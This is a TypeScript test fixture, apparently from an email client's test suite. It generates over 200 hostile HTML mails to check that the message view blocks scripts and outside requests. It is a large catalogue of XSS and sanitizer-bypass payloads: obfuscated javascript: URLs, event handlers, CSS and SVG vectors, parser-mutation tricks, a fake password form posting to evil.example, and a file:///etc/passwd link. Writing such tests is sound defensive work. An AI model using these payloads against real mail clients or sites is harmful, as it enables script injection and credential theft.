/** Mails that try to run scripts, to request something, or to imitate the page that shows them. */
import { mail } from './mail-desk.ts'

/** A mail that attacks the page that shows it. A script that runs sets `window.top.attacked`. */
export interface HostileMail {
  readonly name: string
  readonly html: string
}

/** Returns more than 200 hostile mails: attacks of every kind, and some of extreme size. */
export const hostileMails = (): readonly HostileMail[] =>
  Object.entries(kinds).flatMap(([kind, attacks]) =>
    attacks().map((attack, at) => ({
      name: `${kind} ${at + 1}: ${attack.slice(0, 60)}`,
      html: (wraps[at % wraps.length] as Wrap)(attack),
    })),
  )

type Wrap = (attack: string) => string

/** Mails around an attack: a simple text, a quoted one that is folded, and a layout that is shown in a frame. */
const wraps: readonly Wrap[] = [
  (attack) => `<p>Hello</p>${attack}<p>Regards</p>`,
  (attack) => `<p>Hello</p><blockquote data-quoted="">${attack}</blockquote>`,
  (attack) => `<p>Hello</p><table width="100%"><tr><td style="color:red">${attack}</td></tr></table>`,
]

/** Returns the text of a message with a body of HTML, as mail servers deliver it. */
export function hostileMessage({ html }: HostileMail, id: number): string {
  const head = 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n'
  const body = Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\n')
  return mail({ id: `hostile-${id}`, subject: `Hostile ${id}`, head, body: `${body}\n` })
}

const run = 'top.attacked=1'
/** An address that nothing may request: a request to it fails a test. */
const elsewhere = 'https://evil.example/x'
const svgFile = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`).toString('base64')
const page = Buffer.from(`<script>${run}</script>`).toString('base64')

const words = (text: string): string[] => text.trim().split(/\s+/)

const scripts = (): string[] => [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script>${run}`,
  `<<script>${run}//<</script>`,
  `<scr\0ipt>${run}</scr\0ipt>`,
  `</p></div></body></html><script>${run}</script>`,
  `<noscript><script>${run}</script></noscript>`,
  `<img """><script>${run}</script>">`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
]

/** Event handlers, where possible on elements that fire the event without an action of the user. */
const handlers = (): string[] => [
  ...words('error load loadstart').map((event) => `<img src=x on${event}=${run}>`),
  ...words('click mouseover pointerenter focus wheel copy keydown auxclick contextmenu drop').map(
    (event) => `<div tabindex=0 autofocus style="width:100%;height:900px" on${event}="${run}">x</div>`,
  ),
  ...words('animationstart transitionend animationiteration').map(
    (event) => `<style>@keyframes x{}</style><b style="animation:x 1s" on${event}=${run}>x</b>`,
  ),
  `<body onload=${run}>`,
  // The page has keyframes with this name.
  `<x-y onanimationstart=${run} style="animation:breathe 1s">x</x-y>`,
  `<body onpageshow=${run} onresize=${run} onhashchange=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x ONERROR="${run}">`,
  `<img src=x onerror=&#116;op.attacked&#61;1>`,
  `<img src='x\` onerror=${run}' alt="\`onerror=${run} ">`,
]

/** Spellings of addresses that run a script. */
const scriptAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\x01javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `jav&#x09;ascript:${run}`,
  `jav&#x0A;ascript:${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script&NewLine;:${run}`,
  `javascript://evil.example/%0A${run}`,
  `vbscript:${run}`,
  `vb&#x0A;script:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html;base64,${page}`,
  `data:image/svg+xml;base64,${svgFile}`,
  `blob:${elsewhere}`,
  `view-source:${elsewhere}`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `/\\evil.example/x`,
]
const addresses = (): string[] => [
  ...scriptAddresses.map((address) => `<a href="${address}">x</a>`),
  ...scriptAddresses.slice(0, 6).map((address) => `<img src="${address}" alt=x>`),
  `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m src=x>`,
  `<a href="${elsewhere}" ping="${elsewhere}" target=_self>x</a>`,
  `<a href=x xml:base="javascript:${run}//">x</a>`,
]

const forms = (): string[] => [
  `<form action="${elsewhere}"><input name=password type=password><button>Sign in</button></form>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<form id=f></form><input form=f type=image src="${elsewhere}">`,
  `<isindex type=image src="${elsewhere}" action="javascript:${run}">`,
  `<form><input name=attributes><input name=parentNode></form>`,
  `<select onchange=${run} autofocus><option>x</select>`,
  `<textarea autofocus onfocus=${run}>x</textarea>`,
  `<keygen autofocus onfocus=${run}>`,
]

const styles = (): string[] => [
  ...[
    `background:url(${elsewhere})`,
    `background-color:expression(${run})`,
    `width:\\65xpression(${run})`,
    `b\\61ckground:u\\72l(${elsewhere})`,
    `color:red;position:fixed;inset:0;z-index:9999`,
    `margin:0 -5000px`,
    `list-style:url(${elsewhere})`,
    `background-image:image-set('${elsewhere}' 1x)`,
    `border-image:image-set('${elsewhere}' 1x)`,
    `behavior:url(${elsewhere})`,
    `-moz-binding:url(${elsewhere})`,
    `content:url(${elsewhere})`,
    `cursor:url(${elsewhere}),auto`,
    `--x:url(${elsewhere});background:var(--x)`,
    `color:red/*;*/;background:/**/url(${elsewhere})`,
    `font-family:x;src:url(${elsewhere})`,
    `filter:url(${elsewhere}#f)`,
    `width:attr(title url)`,
    `font-size:1000000px`,
  ].map((style) => `<p style="${style}">x</p>`),
  `<style>@import "${elsewhere}.css"; body{background:url(${elsewhere})}</style>`,
  `<style>@font-face{font-family:x;src:url(${elsewhere})}*{font-family:x!important}</style>`,
  `<style>.app{display:none}</style>`,
  `<style><!--</style><script>${run}</script>--></style>`,
  `<link rel=stylesheet href="${elsewhere}.css">`,
  `<p style='background:url("${elsewhere}")' background="${elsewhere}">x</p>`,
  `<table background="${elsewhere}"><tr><td background="javascript:${run}">x</td></tr></table>`,
]

const vectors = (): string[] => [
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><set attributeName=href to="javascript:${run}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${svgFile}#x"/></svg>`,
  `<svg><image href="${elsewhere}"/></svg>`,
  `<svg><use href="${elsewhere}.svg#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${elsewhere}"</style></svg>`,
  `<svg><filter id=f><feImage href="${elsewhere}"/></filter><rect filter=url(#f) /></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  `<?xml-stylesheet href="javascript:${run}"?><svg></svg>`,
]

const images = (): string[] => [
  `<img src="data:image/svg+xml;base64,${svgFile}">`,
  `<img src="data:image/svg+xml,%3Csvg onload=${run} xmlns='http://www.w3.org/2000/svg'/%3E">`,
  `<img src="data:image/png;base64,${svgFile}">`,
  `<img src="data:text/html;base64,${page}">`,
  `<img src="${elsewhere}" width=1 height=1>`,
  `<img src="//evil.example/x">`,
  `<img srcset="${elsewhere} 1x, ${elsewhere} 2x">`,
  `<img srcset="${elsewhere}" sizes=100vw src="cid:x" loading=eager>`,
  `<picture><source srcset="${elsewhere}"><img src=x></picture>`,
  `<img data-remote-src="javascript:${run}" src="cid:a">`,
  `<img src="cid:x&quot; onerror=${run} x=&quot;">`,
  `<img lowsrc="${elsewhere}" dynsrc="${elsewhere}" longdesc="${elsewhere}">`,
  `<image src="${elsewhere}" onerror=${run}>`,
  `<img src="/api/v1/signout?x" alt=x>`,
]

const frames = (): string[] => [
  `<iframe src="${elsewhere}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<frameset><frame src="${elsewhere}"></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html;base64,${page}" type=text/html></object>`,
  `<embed src="${elsewhere}.swf">`,
  `<embed src="data:image/svg+xml;base64,${svgFile}">`,
  `<applet code=x archive="${elsewhere}"></applet>`,
  `<portal src="${elsewhere}"></portal>`,
  `<fencedframe src="${elsewhere}"></fencedframe>`,
  `<video src="${elsewhere}" poster="${elsewhere}" autoplay></video>`,
  `<audio src="${elsewhere}" autoplay></audio>`,
  `<video><track default src="${elsewhere}"></video>`,
]

const documents = (): string[] => [
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="set-cookie" content="a=b">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
  `<base href="https://evil.example/"><a href=x>x</a>`,
  `<base target=_top><a href="${elsewhere}">x</a>`,
  `<link rel=prefetch href="${elsewhere}">`,
  `<link rel=preload as=image href="${elsewhere}">`,
  `<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example">`,
  `<link rel=import href="${elsewhere}">`,
  `<html manifest="${elsewhere}"><body background="${elsewhere}">x`,
  `<title><img src=x onerror=${run}></title>`,
  `<p id=app name=config class="overlay modal">x</p>`,
  `<a id=attacked name=getElementById href="${elsewhere}">x</a>`,
  `<dialog open style="position:fixed;inset:0">Your session has ended</dialog>`,
  `<div popover=auto id=p>x</div><button popovertarget=p>x</button>`,
  `<slot name=x></slot><div contenteditable onbeforeinput=${run}>x</div>`,
]

/** Texts that become something else when a browser reads them a second time, and comments that end early. */
const mutations = (): string[] => [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}></style></math></table></mtext></math>`,
  `<math><mi><mglyph><svg><style><img src=x onerror=${run}></style></svg></mglyph></mi></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${run}>"></noscript></desc></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><p title="</template><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<textarea></textarea><img src=x onerror=${run}></textarea>`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<select><template><style></select><img src=x onerror=${run}></style></template>`,
  `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<p title="&quot;><img src=x onerror=${run}>">x</p>`,
  `<p title='"><img src=x onerror=${run}>'>x</p>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<!--> <img src=x onerror=${run}> -->`,
  `<!---><img src=x onerror=${run}>-->`,
  `<!-- <!-- --> <img src=x onerror=${run}> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!--x--!><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?php echo ?><img src=x onerror=${run}>`,
  `<!doctype x [<!entity y "<script>${run}</script>">]>&y;`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u{ff1c}script\u{ff1e}${run}\u{ff1c}/script\u{ff1e}`,
  `<a href="x" title="\u2028\u202e</a><script>${run}</script>">x</a>`,
]

/** Mails that cost much to read, or to show. */
const sizes = (): string[] => [
  `<p>${'word <i>word</i> '.repeat(625_000)}</p><script>${run}</script>`,
  `${'<div>'.repeat(50_000)}<img src=x onerror=${run}>`,
  `${'<blockquote>'.repeat(99)}<img src=x onerror=${run}>`,
  `<p ${Array.from({ length: 20_000 }, (_, at) => `onx${at}=${run}`).join(' ')}>x</p>`,
  `<p style="${`background:url(${elsewhere});`.repeat(10_000)}">x</p>`,
  `<img alt="${'"'.repeat(50_000)}" src=x onerror=${run}>`,
  `${'<!--'.repeat(50_000)}<img src=x onerror=${run}>`,
  `<table>${'<tr><td>x'.repeat(5_000)}<script>${run}</script></table>`,
]

const kinds = {
  script: scripts,
  handler: handlers,
  address: addresses,
  form: forms,
  style: styles,
  svg: vectors,
  image: images,
  frame: frames,
  document: documents,
  mutation: mutations,
  size: sizes,
} as const
